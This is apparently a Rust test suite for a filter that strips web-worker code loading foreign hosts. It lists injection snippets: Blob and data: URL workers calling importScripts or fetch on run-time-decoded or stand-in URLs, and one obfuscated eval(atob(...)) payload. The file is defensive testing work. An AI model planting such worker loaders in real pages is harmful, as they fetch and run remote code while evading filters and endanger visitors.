//! Attack suite for workers that load a foreign host (issue 14, class 3; red team; threats
//! B3): a dedicated or shared worker made from an object URL of a `Blob` whose source
//! calls `importScripts(u)` or `fetch(u)` with a URL decoded at run time
//! ([`common::built_hosts`]), directly or through names, or from a `data:` URL. The
//! worker's code is not a script the page shows, so the script that makes it goes whole.
//! Benign twins: a worker from a same-site file, and one from a blob of constant code
//! that names no host, keep every byte.

use crate::common;

use common::built_hosts::{assert_all_removed, changed};

const WORKERS: &[&str] = &[
    "new Worker(URL.createObjectURL(new Blob([\"importScripts('\"+@U+\"')\"])))",
    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"'+@U+'\")'],{type:'text/javascript'})))",
    "var bl=new Blob(['importScripts(\"'+@U+'\")']);var w=new Worker(URL.createObjectURL(bl))",
    "var src='self.onmessage=function(){fetch(\"'+@U+'\")}';var bu=URL.createObjectURL(new Blob([src]));new Worker(bu).postMessage(1)",
    "new window.Worker(window.URL.createObjectURL(new Blob(['importScripts(\"'+@U+'\")'])))",
    "new Worker('data:text/javascript,importScripts(\"'+@U+'\")')",
    "new Worker(@U)",
];

#[test]
fn blob_workers_that_load_a_run_time_host_are_removed() {
    assert_all_removed(WORKERS);
}

#[test]
fn a_blob_worker_of_constant_code_naming_a_foreign_host_is_removed() {
    for (n, code) in [
        "new Worker(URL.createObjectURL(new Blob([\"importScripts('https://bet.test/w.js')\"])))",
        "new Worker(URL.createObjectURL(new Blob(['importScripts(\"//cdn.bet.test/w.js\")'])))",
        "new Worker(URL.createObjectURL(new Blob(['eval(atob(\"bG9jYXRpb249MQ==\"))'])))",
    ]
    .into_iter()
    .enumerate()
    {
        assert!(
            common::built_hosts::removed(code, n),
            "left in place: {code}"
        );
    }
}

#[test]
fn same_site_and_constant_workers_keep_their_bytes() {
    let wrong = changed(&[
        "var w=new Worker('/js/tim-kiem-worker.js');w.postMessage({q:'thue'})",
        "if(window.SharedWorker){var s=new SharedWorker('/js/dong-bo.js')}",
        "var w=new Worker(URL.createObjectURL(new Blob(['self.onmessage=function(e){postMessage(e.data*2)}'],{type:'text/javascript'})))",
    ]);
    assert!(wrong.is_empty(), "changed:\n{}", wrong.join("\n"));
}
